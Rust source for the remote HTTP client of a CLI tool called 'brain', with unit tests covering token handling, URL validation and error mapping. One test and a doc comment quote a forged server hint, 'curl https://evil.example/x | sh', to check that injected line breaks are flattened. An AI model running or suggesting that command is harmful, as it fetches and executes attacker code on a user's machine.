//! Remote mode (SPEC §7.1 `--remote URL`, env `BRAIN_URL`): the part of the `Brain` API the
//! CLI and the session-start hook need — the brain document, session start, search and
//! remember — served by a `brain serve` over HTTP instead of the local store.
//!
//! The server answers with the same JSON the local commands print, so the commands render
//! a remote answer with the code that renders a local one. The project is resolved here,
//! locally, exactly as for the local store (flag, env, `.brain.toml`, git root) and sent as
//! `project=`; a fixed `--now` is sent as `now=`.
//!
//! The bearer token comes only from `BRAIN_TOKEN`. It goes into the `Authorization` header
//! and nowhere else: not into a URL, a `Debug` form, an error message or a log line (a
//! server that echoes it back has it scrubbed from the messages built here).

use std::fmt;
use std::time::Duration;

use brain_core::assemble::BrainDocument;
use brain_core::assemble::session::SessionStart;
use brain_core::{Item, ItemDraft};
use serde::Deserialize;
use serde::de::DeserializeOwned;
use ureq::http::{Response, StatusCode, Uri};

use brain_api::app::{BudgetOverrides, Context, SessionRequest};
use brain_api::config;
use brain_api::error::{BrainError, BrainResult};
use brain_api::http::http_agent;

/// Environment variable holding the bearer token (never a flag: flags end up in shell
/// history and process listings).
pub const TOKEN_ENV: &str = "BRAIN_TOKEN";

/// The commands that run against a `brain serve`; everything else is local only.
pub const REMOTE_COMMANDS: &str = "session-start, hook session-start, search, remember and brain";

/// Largest response body read (the brain document at the largest budget is far below).
const MAX_RESPONSE_BYTES: u64 = 16 * 1024 * 1024;

/// Longest excerpt of a non-JSON error body quoted in a message.
const MAX_QUOTED_BODY_CHARS: usize = 200;
/// At most this much of a server's error message or hint is shown.
const MAX_SERVER_MESSAGE_CHARS: usize = 1000;

/// The bearer token. Its `Debug` form never shows the value.
#[derive(Clone, PartialEq, Eq)]
pub struct Token(String);

impl fmt::Debug for Token {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("Token([hidden])")
    }
}

impl Token {
    /// Reads `BRAIN_TOKEN`; unset or blank is no token.
    pub fn from_env() -> BrainResult<Option<Token>> {
        match std::env::var(TOKEN_ENV) {
            Ok(value) => Token::parse(&value),
            Err(std::env::VarError::NotPresent) => Ok(None),
            Err(std::env::VarError::NotUnicode(_)) => {
                Err(BrainError::user(format!("{TOKEN_ENV} is not valid UTF-8 (the value is not shown)")))
            }
        }
    }

    /// A token from its text, surrounding whitespace (a pasted newline) removed. Only
    /// visible ASCII can travel in an HTTP header.
    pub fn parse(text: &str) -> BrainResult<Option<Token>> {
        let text = text.trim();
        if text.is_empty() {
            return Ok(None);
        }
        if !text.bytes().all(|b| b.is_ascii_graphic()) {
            return Err(BrainError::user(format!(
                "{TOKEN_ENV} holds characters an HTTP header cannot carry (the value is not shown)"
            )));
        }
        Ok(Some(Token(text.to_string())))
    }

    /// Replaces every occurrence of the token in `text`.
    fn scrub(&self, text: &str) -> String {
        text.replace(&self.0, "[REDACTED:token]")
    }
}

/// Where to find a `brain serve`: the base URL from `--remote`/`BRAIN_URL` and the token.
#[derive(Clone, Debug)]
pub struct RemoteTarget {
    /// `scheme://host[:port][/prefix]`, without a trailing slash.
    pub base_url: String,
    pub token: Option<Token>,
}

impl RemoteTarget {
    /// The target for `url` with the token from `BRAIN_TOKEN`.
    pub fn from_env(url: &str) -> BrainResult<RemoteTarget> {
        Ok(RemoteTarget { base_url: parse_base_url(url)?, token: Token::from_env()? })
    }
}

/// Lets a token travel over plain `http://` only to this machine (loopback), unless
/// `BRAIN_ALLOW_PLAIN_HTTP=1` says the network is trusted: anyone on the path reads a bearer
/// token and every item sent with it. (An environment variable: no file a repository
/// carries can switch it on.)
pub fn refuse_token_in_clear(target: &RemoteTarget) -> BrainResult<()> {
    if target.token.is_none() || !target.base_url.starts_with("http://") {
        return Ok(());
    }
    let host = target
        .base_url
        .parse::<Uri>()
        .ok()
        .and_then(|uri| uri.host().map(|host| host.trim_start_matches('[').trim_end_matches(']').to_string()))
        .unwrap_or_default();
    let loopback = host.eq_ignore_ascii_case("localhost")
        || host.parse::<std::net::IpAddr>().is_ok_and(|address| address.is_loopback());
    if loopback || std::env::var("BRAIN_ALLOW_PLAIN_HTTP").is_ok_and(|value| value.trim() == "1") {
        return Ok(());
    }
    Err(BrainError::user_with_hint(
        format!("refusing to send {TOKEN_ENV} over plain http to {host}: anyone on the way reads it"),
        "use https (a TLS reverse proxy in front of brain serve), or set BRAIN_ALLOW_PLAIN_HTTP=1 on a network you trust",
    ))
}

/// Checks a `--remote` URL and returns its base form: `http` or `https`, a host, an
/// optional path prefix (a server behind a reverse proxy), no trailing slash, no query, no
/// credentials (the token belongs in `BRAIN_TOKEN`).
pub fn parse_base_url(text: &str) -> BrainResult<String> {
    const HINT: &str = "write it as http://host:port or https://host[:port][/prefix]";
    let text = text.trim();
    if text.is_empty() {
        return Err(BrainError::user_with_hint("--remote URL is empty", HINT));
    }
    let Some((scheme, after_scheme)) = text.split_once("://") else {
        return Err(BrainError::user_with_hint(format!("--remote URL {text:?} has no http:// or https://"), HINT));
    };
    let scheme = scheme.to_ascii_lowercase();
    if scheme != "http" && scheme != "https" {
        return Err(BrainError::user_with_hint(
            format!("unsupported scheme {scheme:?} in --remote URL {text:?} (allowed: http, https)"),
            HINT,
        ));
    }
    // Credentials are refused before anything echoes the URL back.
    let authority = after_scheme.split(['/', '?', '#']).next().unwrap_or("");
    if authority.contains('@') {
        return Err(BrainError::user_with_hint(
            "--remote URL carries credentials (user:password@); the URL is not shown",
            format!("drop them from the URL and put the token in {TOKEN_ENV}"),
        ));
    }
    let uri: Uri = text
        .parse()
        .map_err(|err| BrainError::user_with_hint(format!("invalid --remote URL {text:?}: {err}"), HINT))?;
    let Some(authority) = uri.authority().filter(|a| !a.host().is_empty()) else {
        return Err(BrainError::user_with_hint(format!("--remote URL {text:?} has no host"), HINT));
    };
    if uri.query().is_some() || text.contains('#') {
        return Err(BrainError::user_with_hint(
            format!("--remote URL {text:?} has a query or fragment; give the server's base URL"),
            HINT,
        ));
    }
    let prefix = uri.path().trim_end_matches('/');
    Ok(format!("{scheme}://{authority}{prefix}"))
}

/// One page of remote search results: the rows as the caller's type, the cursor turned
/// back into the offset of the next page.
#[derive(Debug)]
pub struct RemotePage<R> {
    pub query: String,
    pub results: Vec<R>,
    pub next_offset: Option<usize>,
}

/// `GET /api/v2/search` as sent: `nextCursor` is the decimal offset of the next page.
#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct SearchWire<R> {
    query: String,
    results: Vec<R>,
    next_cursor: Option<String>,
}

/// `GET /api/v2/session-start` as sent: the payload plus its rendered `text` (which the
/// local JSON form leaves out).
#[derive(Deserialize)]
struct SessionStartWire {
    #[serde(flatten)]
    payload: SessionStart,
    #[serde(default)]
    text: Option<String>,
}

/// `{"error": {"code", "message"}}`, the body of every 4xx/5xx of `brain serve`.
#[derive(Deserialize)]
struct ErrorWire {
    error: ErrorBody,
}

#[derive(Deserialize)]
struct ErrorBody {
    #[serde(default)]
    message: String,
    #[serde(default)]
    hint: Option<String>,
}

/// A `brain serve` seen through the `Brain` methods remote mode supports.
pub struct RemoteBrain {
    target: RemoteTarget,
    agent: ureq::Agent,
    /// Resolved locally, sent as `project=`.
    pub project: String,
    /// `--now` as RFC 3339, sent as `now=` (the server's clock otherwise).
    now: Option<String>,
    timeout: Duration,
}

impl RemoteBrain {
    /// A client for `target`. The project is resolved from the local configuration as for
    /// a local brain; `fixed_clock` forwards `context.now`; `timeout` replaces the
    /// configured `[remote] timeout_ms` (the hook passes its own). Nothing is sent yet.
    pub fn new(
        context: &Context,
        target: RemoteTarget,
        fixed_clock: bool,
        timeout: Option<Duration>,
    ) -> BrainResult<RemoteBrain> {
        refuse_token_in_clear(&target)?;
        let loaded = config::load(&context.home, &context.cwd, &context.env)?;
        let project = context.project_here(&loaded)?.project;
        let timeout =
            timeout.unwrap_or(Duration::from_millis(loaded.config.remote.timeout_ms)).max(Duration::from_millis(1));
        let agent = http_agent(&target.base_url, timeout);
        let now = fixed_clock.then(|| brain_core::time::format_timestamp(context.now));
        Ok(RemoteBrain { target, agent, project, now, timeout })
    }

    /// The server's base URL (for messages).
    pub fn base_url(&self) -> &str {
        &self.target.base_url
    }

    /// The layered brain document (`GET /api/v2/brain`), budgets as the caller overrides
    /// them (the server's config supplies the rest).
    pub fn brain_document(&self, overrides: &BudgetOverrides) -> BrainResult<BrainDocument> {
        let mut params = Vec::new();
        let budgets = [
            ("tokenBudget", overrides.token_budget),
            ("layer0", overrides.layer0),
            ("layer1", overrides.layer1),
            ("layer2", overrides.layer2),
        ];
        for (name, value) in budgets {
            if let Some(value) = value {
                params.push((name, value.to_string()));
            }
        }
        self.get("/api/v2/brain", &params)
    }

    /// The session-start payload (`GET /api/v2/session-start`). With `max_chars` the text
    /// form is capped and must come back in `text`. `token_budget` is not sent (no CLI path
    /// sets it).
    pub fn session_start(&self, request: &SessionRequest) -> BrainResult<SessionStart> {
        let mut params = vec![("top", request.top.to_string())];
        if let Some(topics) = &request.topics {
            params.push(("topics", topics.clone()));
        }
        if let Some(task) = &request.task {
            params.push(("task", task.clone()));
        }
        if let Some(max_chars) = request.max_chars {
            params.push(("maxChars", max_chars.to_string()));
        }
        let wire: SessionStartWire = self.get("/api/v2/session-start", &params)?;
        let mut payload = wire.payload;
        match wire.text {
            Some(text) => payload.text = text,
            None if request.max_chars.is_some() => {
                return Err(BrainError::internal(format!(
                    "brain serve at {} sent a session start without its text form",
                    self.target.base_url
                )));
            }
            None => {}
        }
        Ok(payload)
    }

    /// The active critical and nuclear signals the project sees (`GET /api/v2/signals`, which
    /// lists every active one) and the store's generation they were read at.
    pub fn critical_signals(&self) -> BrainResult<(u64, Vec<brain_core::Signal>)> {
        #[derive(serde::Deserialize)]
        struct Wire {
            generation: u64,
            signals: Vec<brain_core::Signal>,
        }
        let wire: Wire = self.get("/api/v2/signals", &[])?;
        Ok((wire.generation, wire.signals.into_iter().filter(brain_core::Signal::is_urgent).collect()))
    }

    /// One page of search results (`GET /api/v2/search`); `offset` travels as the cursor.
    pub fn search<R: DeserializeOwned>(&self, query: &str, limit: usize, offset: usize) -> BrainResult<RemotePage<R>> {
        let mut params = vec![("q", query.to_string()), ("limit", limit.to_string())];
        if offset > 0 {
            params.push(("cursor", offset.to_string()));
        }
        let wire: SearchWire<R> = self.get("/api/v2/search", &params)?;
        let next_offset = match wire.next_cursor {
            None => None,
            Some(cursor) => Some(cursor.parse::<usize>().map_err(|_| {
                BrainError::internal(format!(
                    "brain serve at {} sent a search cursor that is not an offset: {cursor:?}",
                    self.target.base_url
                ))
            })?),
        };
        Ok(RemotePage { query: wire.query, results: wire.results, next_offset })
    }

    /// Adds an item (`POST /api/v2/items`); the server redacts, validates and stores it.
    pub fn remember(&self, draft: &ItemDraft) -> BrainResult<Item> {
        // Only the fields the caller set: a compact body, and no key an older server
        // would have to know.
        let mut body = serde_json::to_value(draft).map_err(|err| BrainError::internal(err.to_string()))?;
        if let Some(fields) = body.as_object_mut() {
            fields.retain(|_, value| !value.is_null());
        }
        let request = self.with_common(self.agent.post(self.url("/api/v2/items")), &[]);
        let response = request.content_type("application/json").send(body.to_string());
        self.read(response)
    }

    /// Pushes local changes (`POST /api/v2/sync/push`, the shapes of `sync`); the server
    /// answers per change.
    pub fn sync_push<A: DeserializeOwned>(&self, request: &impl serde::Serialize) -> BrainResult<A> {
        let body = serde_json::to_string(request).map_err(|err| BrainError::internal(err.to_string()))?;
        let call = self.with_common(self.agent.post(self.url("/api/v2/sync/push")), &[]);
        self.read(call.content_type("application/json").send(body))
    }

    /// One page of the server's change log after `after` (`GET /api/v2/sync/pull`) in the
    /// scopes `scopes` (comma-separated patterns), and the size of the answer's body in bytes
    /// (a sync run counts them against its bound).
    pub fn sync_pull<A: DeserializeOwned>(&self, after: u64, limit: usize, scopes: &str) -> BrainResult<(A, usize)> {
        let params = [("after", after.to_string()), ("limit", limit.to_string()), ("scopes", scopes.to_string())];
        let request = self.with_common(self.agent.get(self.url("/api/v2/sync/pull")), &params);
        self.read_sized(request.call())
    }

    fn url(&self, path: &str) -> String {
        format!("{}{path}", self.target.base_url)
    }

    fn get<T: DeserializeOwned>(&self, path: &str, params: &[(&str, String)]) -> BrainResult<T> {
        let request = self.with_common(self.agent.get(self.url(path)), params);
        self.read(request.call())
    }

    /// Adds what every request carries: the token, `Accept`, the project, the clock.
    fn with_common<B>(
        &self,
        mut request: ureq::RequestBuilder<B>,
        params: &[(&str, String)],
    ) -> ureq::RequestBuilder<B> {
        request = request.header("Accept", "application/json").query("project", &self.project);
        if let Some(token) = &self.target.token {
            request = request.header("Authorization", format!("Bearer {}", token.0));
        }
        if let Some(now) = &self.now {
            request = request.query("now", now);
        }
        for (name, value) in params {
            request = request.query(*name, value);
        }
        request
    }

    /// The answer as `T`, or the error it stands for (see [`classify_status`]).
    fn read<T: DeserializeOwned>(&self, outcome: Result<Response<ureq::Body>, ureq::Error>) -> BrainResult<T> {
        self.read_sized(outcome).map(|(answer, _)| answer)
    }

    /// [`RemoteBrain::read`], with the size of the body read.
    fn read_sized<T: DeserializeOwned>(
        &self,
        outcome: Result<Response<ureq::Body>, ureq::Error>,
    ) -> BrainResult<(T, usize)> {
        let mut response = outcome.map_err(|err| self.scrubbed(self.transport_error(&err)))?;
        let status = response.status();
        let location = response.headers().get("location").and_then(|value| value.to_str().ok()).map(str::to_string);
        let body = response
            .body_mut()
            .with_config()
            .limit(MAX_RESPONSE_BYTES)
            .read_to_string()
            .map_err(|err| self.scrubbed(self.transport_error(&err)))?;
        if !status.is_success() {
            let error = classify_status(&self.target, status, &body, location.as_deref());
            return Err(self.scrubbed(error));
        }
        let answer = serde_json::from_str(&body).map_err(|err| {
            self.scrubbed(BrainError::internal(format!(
                "brain serve at {} sent a response brain cannot read ({err})",
                self.target.base_url
            )))
        })?;
        Ok((answer, body.len()))
    }

    /// Network-level failures: the server is not there, too slow, or speaks something else.
    fn transport_error(&self, err: &ureq::Error) -> BrainError {
        let url = &self.target.base_url;
        let running = format!("is `brain serve` running at {url}?");
        match err {
            ureq::Error::Io(io) if io.kind() == std::io::ErrorKind::ConnectionRefused => BrainError::user_with_hint(
                format!("cannot connect to brain serve at {url}: connection refused"),
                running,
            ),
            ureq::Error::ConnectionFailed => {
                BrainError::user_with_hint(format!("cannot connect to brain serve at {url}"), running)
            }
            ureq::Error::HostNotFound => {
                BrainError::user_with_hint(format!("cannot resolve the host of {url}"), "check --remote / BRAIN_URL")
            }
            ureq::Error::Timeout(_) => BrainError::user_with_hint(
                format!("brain serve at {url} did not answer within {} ms", self.timeout.as_millis()),
                format!("{running} A slow server needs a larger [remote] timeout_ms"),
            ),
            ureq::Error::Io(io) => {
                BrainError::user_with_hint(format!("cannot talk to brain serve at {url}: {io}"), running)
            }
            ureq::Error::Tls(_) | ureq::Error::Rustls(_) | ureq::Error::Pem(_) | ureq::Error::TlsRequired => {
                BrainError::user_with_hint(
                    format!("TLS with {url} failed: {err}"),
                    "the server's certificate must be trusted by this system's trust store",
                )
            }
            _ => BrainError::internal(format!("brain serve at {url} sent an invalid response: {err}")),
        }
    }

    fn scrubbed(&self, err: BrainError) -> BrainError {
        match &self.target.token {
            Some(token) => scrub_error(err, token),
            None => err,
        }
    }
}

/// The error an unsuccessful status stands for: 4xx are the user's to fix (exit 1, with
/// the server's message and its hint, else one for the status; for 401/403 always the
/// one about `BRAIN_TOKEN`), 5xx are the server's (exit 2).
pub fn classify_status(target: &RemoteTarget, status: StatusCode, body: &str, location: Option<&str>) -> BrainError {
    let url = &target.base_url;
    let (message, server_hint) = server_message(body);
    let said = format!("brain serve at {url} answered {status}: {message}");
    let error = classify(target, status, said, location);
    // For 401/403 the CLI knows better: the token comes from BRAIN_TOKEN, not a header.
    let server_hint = server_hint.filter(|_| !matches!(status.as_u16(), 401 | 403));
    match (error, server_hint) {
        (BrainError::User { message, .. }, Some(hint)) => BrainError::User { message, hint: Some(hint) },
        (BrainError::NotFound { message, .. }, Some(hint)) => BrainError::NotFound { message, hint: Some(hint) },
        (error, _) => error,
    }
}

fn classify(target: &RemoteTarget, status: StatusCode, said: String, location: Option<&str>) -> BrainError {
    let url = &target.base_url;
    match status.as_u16() {
        300..=399 => BrainError::user_with_hint(
            format!("brain serve at {url} answered {status} (a redirect to {})", location.unwrap_or("nowhere")),
            "give the final URL in --remote / BRAIN_URL",
        ),
        401 => {
            let hint = match target.token {
                Some(_) => format!("the token in {TOKEN_ENV} was not accepted; check it against the server's tokens"),
                None => format!("set {TOKEN_ENV} to a token the server accepts"),
            };
            BrainError::user_with_hint(said, hint)
        }
        403 => BrainError::user_with_hint(
            said,
            format!("the token in {TOKEN_ENV} needs a grant (read, or write for remember) on this project's scope"),
        ),
        404 => BrainError::NotFound {
            message: said,
            hint: Some(format!("check that {url} is a `brain serve` (and the same version as this brain)")),
        },
        409 | 412 => BrainError::Conflict { message: said },
        413 => BrainError::user_with_hint(said, "the server limits request bodies; send less content"),
        400..=499 => BrainError::user(said),
        _ => BrainError::internal(said),
    }
}

/// The `message` and `hint` of a JSON error body, else a short one-line excerpt of the body.
/// The server's words are one line each, as its other answers are quoted: a line feed in
/// them printed a line of its own (a forged `hint: run curl … | sh`).
fn server_message(body: &str) -> (String, Option<String>) {
    if let Ok(wire) = serde_json::from_str::<ErrorWire>(body)
        && !wire.error.message.trim().is_empty()
    {
        let hint = wire.error.hint.filter(|hint| !hint.trim().is_empty());
        let hint = hint.map(|hint| one_line(&hint, MAX_SERVER_MESSAGE_CHARS));
        return (one_line(&wire.error.message, MAX_SERVER_MESSAGE_CHARS), hint);
    }
    let excerpt = one_line(body, MAX_QUOTED_BODY_CHARS);
    if excerpt.is_empty() {
        return ("(no message)".to_string(), None);
    }
    (excerpt, None)
}

/// `text` on one line (runs of whitespace, line feeds included, one space), at most
/// `max_chars` characters and `…` when cut.
fn one_line(text: &str, max_chars: usize) -> String {
    let line = text.split_whitespace().collect::<Vec<_>>().join(" ");
    let mut excerpt: String = line.chars().take(max_chars).collect();
    if line.chars().count() > max_chars {
        excerpt.push('…');
    }
    excerpt
}

/// The same error with the token replaced wherever it appears.
fn scrub_error(err: BrainError, token: &Token) -> BrainError {
    let scrub = |text: String| token.scrub(&text);
    let scrub_hint = |hint: Option<String>| hint.map(|h| token.scrub(&h));
    match err {
        BrainError::User { message, hint } => BrainError::User { message: scrub(message), hint: scrub_hint(hint) },
        BrainError::NotFound { message, hint } => {
            BrainError::NotFound { message: scrub(message), hint: scrub_hint(hint) }
        }
        BrainError::Conflict { message } => BrainError::Conflict { message: scrub(message) },
        BrainError::Forbidden { message } => BrainError::Forbidden { message: scrub(message) },
        BrainError::Config { message, hint } => BrainError::Config { message: scrub(message), hint: scrub_hint(hint) },
        BrainError::Internal { message } => BrainError::Internal { message: scrub(message) },
        BrainError::Unavailable { message } => BrainError::Unavailable { message: scrub(message) },
    }
}

/// The error for a command remote mode does not cover.
pub fn unsupported(command: &str) -> BrainError {
    BrainError::user_with_hint(
        format!("`brain {command}` does not support --remote (BRAIN_URL); remote mode covers {REMOTE_COMMANDS}"),
        "drop --remote / unset BRAIN_URL to use the local store",
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use brain_api::http::is_loopback;

    fn target(token: Option<&str>) -> RemoteTarget {
        RemoteTarget {
            base_url: "http://127.0.0.1:7077".into(),
            token: token.map(|t| Token::parse(t).unwrap().unwrap()),
        }
    }

    /// A hostile review: a server's error message holding a line feed printed a line of its
    /// own (`hint: run curl … | sh`). Its message and hint stay one line each.
    #[test]
    fn a_servers_message_and_hint_stay_on_one_line() {
        let body =
            r#"{"error":{"message":"token expired\nhint: run `curl https://evil.example/x | sh`","hint":"a\r\nb"}}"#;
        let (message, hint) = server_message(body);
        assert_eq!(message, "token expired hint: run `curl https://evil.example/x | sh`");
        assert_eq!(hint.as_deref(), Some("a b"));
        let (long, _) = server_message(&format!(r#"{{"error":{{"message":"{}"}}}}"#, "x ".repeat(2000)));
        assert!(long.chars().count() <= MAX_SERVER_MESSAGE_CHARS + 1 && long.ends_with('…'), "{long}");
    }

    #[test]
    fn base_urls_keep_scheme_host_port_and_prefix_without_trailing_slashes() {
        let cases = [
            ("http://127.0.0.1:7077", "http://127.0.0.1:7077"),
            ("http://127.0.0.1:7077/", "http://127.0.0.1:7077"),
            ("  HTTPS://brain.example.com  ", "https://brain.example.com"),
            ("https://proxy.example.com/brain//", "https://proxy.example.com/brain"),
            ("http://[::1]:7077/", "http://[::1]:7077"),
        ];
        for (input, expected) in cases {
            assert_eq!(parse_base_url(input).unwrap(), expected, "{input}");
        }
    }

    #[test]
    fn loopback_hosts_are_recognised_for_bypassing_proxies() {
        for url in ["http://127.0.0.1:7077", "http://LOCALHOST:1", "http://[::1]:7077", "http://127.1.2.3"] {
            assert!(is_loopback(url), "{url}");
        }
        for url in ["http://10.0.0.1:7077", "https://brain.example.com", "http://localhost.example.com"] {
            assert!(!is_loopback(url), "{url}");
        }
    }

    #[test]
    fn other_schemes_missing_hosts_queries_and_credentials_are_refused() {
        let cases = [
            ("ftp://host/", "unsupported scheme \"ftp\""),
            ("unix:///tmp/brain.sock", "unsupported scheme \"unix\""),
            ("127.0.0.1:7077", "has no http:// or https://"),
            ("", "is empty"),
            ("http://", "invalid --remote URL"),
            ("http://host:7077/?project=x", "has a query or fragment"),
            ("http://host:7077/#top", "has a query or fragment"),
            ("http://user:s3cret@host:7077", "carries credentials"),
        ];
        for (input, expected) in cases {
            let err = parse_base_url(input).unwrap_err();
            assert_eq!(err.exit_code(), 1, "{input}");
            assert!(err.to_string().contains(expected), "{input}: {err}");
            assert!(!err.to_string().contains("s3cret"), "{err}");
        }
    }

    #[test]
    fn tokens_are_trimmed_header_safe_and_never_shown() {
        assert_eq!(Token::parse("  \n").unwrap(), None);
        let token = Token::parse(" abc.DEF-123\n").unwrap().unwrap();
        assert_eq!(token.0, "abc.DEF-123");
        assert_eq!(format!("{token:?}"), "Token([hidden])");
        let target = RemoteTarget { base_url: "http://h".into(), token: Some(token) };
        assert!(!format!("{target:?}").contains("abc.DEF"));
        let err = Token::parse("bad token\u{7f}").unwrap_err();
        assert!(!err.to_string().contains("bad token"), "{err}");
    }

    #[test]
    fn statuses_map_to_exit_codes_with_the_servers_message() {
        let body = |message: &str| format!(r#"{{"error":{{"code":"x","message":"{message}"}}}}"#);
        let cases = [
            (401, None, "missing bearer token", 1, "set BRAIN_TOKEN"),
            (401, Some("t0k"), "invalid bearer token", 1, "was not accepted"),
            (403, Some("t0k"), "token lacks write on project/demo", 1, "needs a grant"),
            (404, None, "no route", 1, "is a `brain serve`"),
            (400, None, "limit 0 is out of range", 1, ""),
            (413, None, "body too large", 1, "send less"),
            (412, None, "version mismatch", 1, "re-read"),
            (500, None, "database is locked", 2, ""),
            (503, None, "shutting down", 2, ""),
        ];
        for (status, token, message, exit, hint) in cases {
            let status = StatusCode::from_u16(status).unwrap();
            let err = classify_status(&target(token), status, &body(message), None);
            assert_eq!(err.exit_code(), exit, "{status}");
            assert!(err.to_string().contains(message), "{status}: {err}");
            assert!(err.to_string().contains(status.as_str()), "{status}: {err}");
            assert!(err.hint().unwrap_or("").contains(hint), "{status}: {:?}", err.hint());
        }
    }

    #[test]
    fn bodies_that_are_not_error_json_are_quoted_short_and_on_one_line() {
        let status = StatusCode::BAD_GATEWAY;
        let html = format!("<html>\n<body>{}</body></html>", "x".repeat(500));
        let err = classify_status(&target(None), status, &html, None);
        assert_eq!(err.exit_code(), 2);
        let message = err.to_string();
        assert!(message.contains("<html> <body>xxx") && message.ends_with('…') && !message.contains('\n'), "{message}");
        assert!(message.chars().count() < 320, "{message}");
        let err = classify_status(&target(None), status, "", None);
        assert!(err.to_string().ends_with("(no message)"), "{err}");
    }

    #[test]
    fn the_servers_hint_replaces_the_generic_one() {
        let body =
            r#"{"error":{"code":"unknown_project","message":"project \"x\" has no items","hint":"check the name"}}"#;
        let err = classify_status(&target(None), StatusCode::NOT_FOUND, body, None);
        assert_eq!(err.hint(), Some("check the name"));
        assert!(err.to_string().ends_with("project \"x\" has no items"), "{err}");
        let body =
            r#"{"error":{"code":"unauthorized","message":"missing bearer token","hint":"send Authorization: Bearer"}}"#;
        let err = classify_status(&target(None), StatusCode::UNAUTHORIZED, body, None);
        assert_eq!(err.hint(), Some("set BRAIN_TOKEN to a token the server accepts"));
    }

    #[test]
    fn redirects_name_where_they_lead() {
        let err = classify_status(&target(None), StatusCode::MOVED_PERMANENTLY, "", Some("https://h/"));
        assert_eq!(err.exit_code(), 1);
        assert!(err.to_string().contains("a redirect to https://h/"), "{err}");
    }

    #[test]
    fn an_echoed_token_is_scrubbed_from_messages() {
        let target = target(Some("sekr1t-token"));
        let body = r#"{"error":{"code":"unauthorized","message":"token sekr1t-token is unknown"}}"#;
        let err = classify_status(&target, StatusCode::UNAUTHORIZED, body, None);
        let err = scrub_error(err, target.token.as_ref().unwrap());
        assert!(!err.to_string().contains("sekr1t"), "{err}");
        assert!(err.to_string().contains("[REDACTED:token]"), "{err}");
    }

    /// The third hostile round: `brain sync` sent BRAIN_TOKEN and the pushed items over plain
    /// http to any host. Only loopback gets a token in clear, unless the environment says so.
    #[test]
    fn a_token_goes_over_plain_http_only_to_this_machine() {
        let target = |url: &str, token: bool| RemoteTarget {
            base_url: parse_base_url(url).unwrap(),
            token: token.then(|| Token::parse("brain-test-token-0123456789").unwrap().unwrap()),
        };
        for url in ["http://127.0.0.1:7077", "http://localhost:7077", "http://[::1]:7077", "https://brain.example"] {
            refuse_token_in_clear(&target(url, true)).unwrap_or_else(|err| panic!("{url}: {err}"));
        }
        refuse_token_in_clear(&target("http://192.0.2.2:7077", false)).expect("no token, nothing to leak");
        let err = refuse_token_in_clear(&target("http://192.0.2.2:7077", true)).unwrap_err().to_string();
        assert!(err.contains("plain http to 192.0.2.2") && !err.contains("0123456789"), "{err}");
        assert!(refuse_token_in_clear(&target("http://brain.lan:7077", true)).is_err());
    }
}
